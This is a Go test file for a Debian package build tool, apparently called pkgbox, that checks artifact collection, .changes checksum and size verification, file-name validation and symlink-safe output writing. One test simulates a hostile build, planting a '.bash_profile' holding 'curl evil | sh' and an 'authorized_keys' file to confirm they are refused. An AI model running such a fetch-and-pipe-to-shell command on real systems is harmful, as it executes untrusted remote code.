package build

import (
	"crypto/md5"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"syscall"
	"testing"

	"pkgbox/debian"
)

// changesFor writes a .changes listing files with their true sizes and
// hashes, except where lie gives a size to declare instead.
func changesFor(files map[string][]byte, lie map[string]int64) string {
	var names []string
	for n := range files {
		names = append(names, n)
	}
	sort.Strings(names)
	var sums, md5s strings.Builder
	for _, n := range names {
		size := int64(len(files[n]))
		if l, ok := lie[n]; ok {
			size = l
		}
		s, m := sha256.Sum256(files[n]), md5.Sum(files[n])
		fmt.Fprintf(&sums, " %s %d %s\n", hex.EncodeToString(s[:]), size, n)
		fmt.Fprintf(&md5s, " %s %d misc optional %s\n", hex.EncodeToString(m[:]), size, n)
	}
	return "Format: 1.8\nSource: hello\nBinary: hello\nArchitecture: amd64\nVersion: 1.0\n" +
		"Checksums-Sha256:\n" + sums.String() + "Files:\n" + md5s.String()
}

// collectTest is a build directory and an output directory for collect.
type collectTest struct {
	build, out string
	b          *builder
}

func newCollectTest(t *testing.T, uid int) *collectTest {
	t.Helper()
	c := &collectTest{build: t.TempDir(), out: t.TempDir()}
	var src debian.Source
	src.Name = "hello"
	if err := src.Version.UnmarshalControl("1.0"); err != nil {
		t.Fatal(err)
	}
	o, err := openOutput(c.out, uid, uid)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { o.Close() })
	log, err := newBuildLog(o, "hello_1.0_amd64.build", nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { log.Close() })
	c.b = &builder{req: &Request{Type: Binary}, src: &src, arch: "amd64", log: log, res: &Result{}, out: o}
	return c
}

func (c *collectTest) write(t *testing.T, files map[string][]byte) {
	t.Helper()
	for n, data := range files {
		if err := os.WriteFile(filepath.Join(c.build, n), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func (c *collectTest) collect(t *testing.T) error {
	t.Helper()
	dir, err := os.Open(c.build)
	if err != nil {
		t.Fatal(err)
	}
	defer dir.Close()
	return c.b.collectFrom(dir)
}

// outNames lists the output directory, the log left out.
func (c *collectTest) outNames(t *testing.T) []string {
	t.Helper()
	entries, err := os.ReadDir(c.out)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range entries {
		if e.Name() != "hello_1.0_amd64.build" {
			names = append(names, e.Name())
		}
	}
	return names
}

var realArtifacts = map[string][]byte{
	"hello_1.0_amd64.deb":       []byte("a deb"),
	"hello-doc_1.0_all.deb":     []byte("another deb"),
	"hello_1.0_amd64.buildinfo": []byte("buildinfo"),
}

func TestCollect(t *testing.T) {
	uid := -1
	if os.Geteuid() == 0 {
		uid = 4242
	}
	c := newCollectTest(t, uid)
	c.write(t, realArtifacts)
	c.write(t, map[string][]byte{"hello_1.0_amd64.changes": []byte(changesFor(realArtifacts, nil))})
	if err := c.collect(t); err != nil {
		t.Fatal(err)
	}
	want := []string{"hello-doc_1.0_all.deb", "hello_1.0_amd64.buildinfo", "hello_1.0_amd64.changes", "hello_1.0_amd64.deb"}
	if got := c.outNames(t); strings.Join(got, " ") != strings.Join(want, " ") {
		t.Errorf("out holds %v, want %v", got, want)
	}
	for _, n := range append(want, "hello_1.0_amd64.build") {
		fi, err := os.Stat(filepath.Join(c.out, n))
		if err != nil {
			t.Fatal(err)
		}
		if fi.Mode().Perm() != 0o644 {
			t.Errorf("%s: mode %v", n, fi.Mode())
		}
		if uid >= 0 && int(fi.Sys().(*syscall.Stat_t).Uid) != uid {
			t.Errorf("%s: owner %d, want %d", n, fi.Sys().(*syscall.Stat_t).Uid, uid)
		}
	}
	if len(c.b.res.Artifacts) != 4 {
		t.Errorf("artifacts %v", c.b.res.Artifacts)
	}
}

// What a hostile build leaves in /build never reaches the output
// directory (issue 11, finding 5).
func TestCollectHostileBuild(t *testing.T) {
	big := make([]byte, 8<<20)
	for _, tt := range []struct {
		name  string
		files map[string][]byte
		// changes is the .changes under the name dpkg-buildpackage gives it.
		changes string
		want    string
		copied  []string
	}{{
		name:    "dot file",
		files:   map[string][]byte{".bash_profile": []byte("curl evil | sh\n")},
		changes: changesFor(map[string][]byte{"hello_1.0_amd64.deb": []byte("a deb"), ".bash_profile": []byte("curl evil | sh\n")}, nil),
		want:    `hello_1.0_amd64.changes: it lists ".bash_profile", which is not a Debian package file name`,
	}, {
		name:    "not a package file",
		files:   map[string][]byte{"authorized_keys": []byte("ssh-ed25519 AAAA")},
		changes: changesFor(map[string][]byte{"authorized_keys": []byte("ssh-ed25519 AAAA")}, nil),
		want:    `it lists "authorized_keys", which is not a Debian package file name`,
	}, {
		name:    "source file of another source",
		files:   map[string][]byte{"other_1.0.dsc": []byte("x")},
		changes: changesFor(map[string][]byte{"other_1.0.dsc": []byte("x")}, nil),
		want:    `it lists "other_1.0.dsc", which is not a file of source package hello`,
	}, {
		name:    "larger than declared",
		files:   map[string][]byte{"hello_1.0_amd64.deb": big},
		changes: changesFor(map[string][]byte{"hello_1.0_amd64.deb": big}, map[string]int64{"hello_1.0_amd64.deb": 1}),
		want:    "artifact hello_1.0_amd64.deb: the build's .changes declares size 1 bytes, but it has more than 1 bytes",
	}, {
		name:    "other content than declared",
		files:   map[string][]byte{"hello_1.0_amd64.deb": []byte("b deb")},
		changes: changesFor(map[string][]byte{"hello_1.0_amd64.deb": []byte("a deb")}, nil),
		want:    "artifact hello_1.0_amd64.deb: the build's .changes declares sha256",
	}, {
		name: "forged .changes of other names",
		files: map[string][]byte{
			".bash_profile":            []byte("x"),
			"hello_1.0_all.changes":    []byte(changesFor(map[string][]byte{".bash_profile": []byte("x")}, nil)),
			"hello_1.0_source.changes": []byte(changesFor(map[string][]byte{".bash_profile": []byte("x")}, nil)),
		},
		changes: changesFor(realArtifacts, nil),
		copied:  []string{"hello-doc_1.0_all.deb", "hello_1.0_amd64.buildinfo", "hello_1.0_amd64.changes", "hello_1.0_amd64.deb"},
	}} {
		t.Run(tt.name, func(t *testing.T) {
			c := newCollectTest(t, -1)
			c.write(t, realArtifacts)
			c.write(t, tt.files)
			c.write(t, map[string][]byte{"hello_1.0_amd64.changes": []byte(tt.changes)})
			err := c.collect(t)
			if tt.want == "" && err != nil || tt.want != "" && (err == nil || !strings.Contains(err.Error(), tt.want)) {
				t.Fatalf("got %v, want %q", err, tt.want)
			}
			if got := c.outNames(t); strings.Join(got, " ") != strings.Join(tt.copied, " ") && (len(got) > 0 || len(tt.copied) > 0) {
				t.Errorf("out holds %v, want %v", got, tt.copied)
			}
		})
	}
}

func TestCollectTooLarge(t *testing.T) {
	defer func(l int64) { artifactLimit = l }(artifactLimit)
	artifactLimit = 10
	c := newCollectTest(t, -1)
	c.write(t, realArtifacts)
	c.write(t, map[string][]byte{"hello_1.0_amd64.changes": []byte(changesFor(realArtifacts, nil))})
	err := c.collect(t)
	if err == nil || !strings.Contains(err.Error(), "more than pkgbox copies out of one build (10)") {
		t.Fatalf("got %v", err)
	}
	if got := c.outNames(t); len(got) > 0 {
		t.Errorf("out holds %v", got)
	}
}

// An artifact's name in the output directory taken by a symlink: refused
// without --overwrite; replaced, never followed, with it.
func TestCollectSymlinkInOut(t *testing.T) {
	for _, overwrite := range []bool{false, true} {
		c := newCollectTest(t, -1)
		c.b.req.Overwrite = overwrite
		c.write(t, realArtifacts)
		c.write(t, map[string][]byte{"hello_1.0_amd64.changes": []byte(changesFor(realArtifacts, nil))})
		target := filepath.Join(t.TempDir(), "target")
		if err := os.WriteFile(target, []byte("keep"), 0o600); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(target, filepath.Join(c.out, "hello_1.0_amd64.deb")); err != nil {
			t.Fatal(err)
		}
		err := c.collect(t)
		var ee *ExistsError
		if !overwrite && !errors.As(err, &ee) || overwrite && err != nil {
			t.Errorf("overwrite %v: got %v", overwrite, err)
		}
		if data, _ := os.ReadFile(target); string(data) != "keep" {
			t.Errorf("overwrite %v: the symlink's target was written: %q", overwrite, data)
		}
		fi, err := os.Lstat(filepath.Join(c.out, "hello_1.0_amd64.deb"))
		if overwrite && (err != nil || !fi.Mode().IsRegular()) {
			t.Errorf("overwrite: the symlink was not replaced by the artifact: %v %v", fi, err)
		}
	}
}

// The log's name taken by a symlink: refused, the target untouched
// (issue 11, finding 4); an earlier log is replaced by a new file.
func TestLogInOut(t *testing.T) {
	out := t.TempDir()
	o, err := openOutput(out, -1, -1)
	if err != nil {
		t.Fatal(err)
	}
	defer o.Close()
	target := filepath.Join(t.TempDir(), "target")
	if err := os.WriteFile(target, []byte("keep"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(target, filepath.Join(out, "x.build")); err != nil {
		t.Fatal(err)
	}
	_, err = newBuildLog(o, "x.build", nil)
	var oe *OutputError
	if !errors.As(err, &oe) || !strings.Contains(err.Error(), "x.build is a symbolic link") {
		t.Fatalf("got %v, want an OutputError", err)
	}
	if data, _ := os.ReadFile(target); string(data) != "keep" {
		t.Errorf("the symlink's target was written: %q", data)
	}
	// A hard link to the target where an earlier log was: unlinked, not written.
	if err := os.Link(target, filepath.Join(out, "y.build")); err != nil {
		t.Fatal(err)
	}
	l, err := newBuildLog(o, "y.build", nil)
	if err != nil {
		t.Fatal(err)
	}
	l.Printf("new log")
	l.Close()
	if data, _ := os.ReadFile(target); string(data) != "keep" {
		t.Errorf("the old log's inode was written: %q", data)
	}
	if data, _ := os.ReadFile(filepath.Join(out, "y.build")); string(data) != "new log\n" {
		t.Errorf("new log holds %q", data)
	}
}

func TestCheckArtifactName(t *testing.T) {
	for _, tt := range []struct {
		name string
		ok   bool
	}{
		{"hello_1.0_amd64.deb", true},
		{"libhello1_1.0-1+b1_amd64.deb", true},
		{"hello-dbgsym_1.0_amd64.ddeb", true},
		{"hello-udeb_1.0_amd64.udeb", true},
		{"hello_1.0.dsc", true},
		{"hello_1.0.orig.tar.gz", true},
		{"hello_1.0.orig.tar.gz.asc", true},
		{"hello_1.0.orig-docs.tar.xz", true},
		{"hello_1.0-1.debian.tar.xz", true},
		{"hello_1.0-1.diff.gz", true},
		{"hello_1.0-1_amd64.buildinfo", true},
		{"hello_1.0-1_source.buildinfo", true},
		{"hello_1.0.deb", false},
		{".bash_profile", false},
		{".hello_1.0_amd64.deb", false},
		{"hello_1.0_amd64.deb/x", false},
		{"hello_1.0_amd64.sh", false},
		{"other_1.0.dsc", false},
		{"other_1.0_amd64.buildinfo", false},
		{"Hello_1.0_amd64.deb", false},
		{"hello_1:1.0_amd64.deb", false},
	} {
		err := checkArtifactName("hello", tt.name)
		if (err == nil) != tt.ok {
			t.Errorf("%q: got %v, want ok %v", tt.name, err, tt.ok)
		}
	}
}

func TestChangesName(t *testing.T) {
	var src debian.Source
	src.Name = "hello"
	if err := src.Version.UnmarshalControl("2:1.0-1"); err != nil {
		t.Fatal(err)
	}
	for typ, want := range map[Type]string{
		Binary: "hello_1.0-1_amd64.changes", BinaryArch: "hello_1.0-1_amd64.changes", Full: "hello_1.0-1_amd64.changes",
		BinaryAll: "hello_1.0-1_all.changes", Source: "hello_1.0-1_source.changes",
	} {
		if got := changesName(&src, "amd64", typ); got != want {
			t.Errorf("%s: %s, want %s", typ, got, want)
		}
	}
}
